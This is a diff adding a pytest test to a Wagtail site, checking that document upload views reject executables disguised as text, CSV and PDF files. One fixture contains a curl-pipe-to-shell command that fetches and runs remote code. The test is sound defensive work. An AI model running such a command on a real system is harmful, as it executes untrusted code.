@@ -9,6 +9,7 @@ import zlib
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.urls import reverse
 from PIL import Image as PILImage
 from wagtail.documents import get_document_model
 from wagtail.images import get_image_model
@@ -234,3 +235,42 @@ def test_documents_download_as_attachments_that_browsers_do_not_sniff(client, ed
     assert response["Content-Type"].startswith("text/plain")
     # Served by Django from storage, not from a folder under the web server's document root.
     assert document.url.startswith("/documents/")
+
+
+# Each passes every check but the executable signatures: a script is valid UTF-8 text, and
+# these executables carry "%PDF-" in their first KiB.
+EXECUTABLES_PASSING_AS_DOCUMENTS = {
+    "script-named-txt": ("notes.txt", b"#!/bin/sh\ncurl -s https://example.org/x | sh\n"),
+    "script-named-csv": ("members.csv", b"#!/usr/bin/env python3\nimport os\n"),
+    "elf-named-pdf": ("report.pdf", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56 + PDF),
+    "exe-named-pdf": ("report.pdf", WINDOWS_EXECUTABLE + PDF),
+}
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    EXECUTABLES_PASSING_AS_DOCUMENTS.values(),
+    ids=EXECUTABLES_PASSING_AS_DOCUMENTS.keys(),
+)
+def test_executables_are_refused_by_both_document_upload_views(editor_client, name, content):
+    extension = name.rsplit(".", 1)[1]
+    count = Document.objects.count()
+    response = editor_client.post(
+        reverse("wagtaildocs:add"),
+        {
+            "title": name,
+            "collection": Collection.get_first_root_node().pk,
+            "file": SimpleUploadedFile(name, content),
+        },
+    )
+    assert response.status_code == 200
+    assert f"not a valid .{extension} document" in form_errors(response)
+
+    response = editor_client.post(
+        reverse("wagtaildocs:add_multiple"),
+        {"files[]": SimpleUploadedFile(name, content), "collection": Collection.get_first_root_node().pk},
+    )
+    assert response.status_code == 200
+    assert response.json()["success"] is False
+    assert f"not a valid .{extension} document" in response.json()["error_message"]
+    assert Document.objects.count() == count
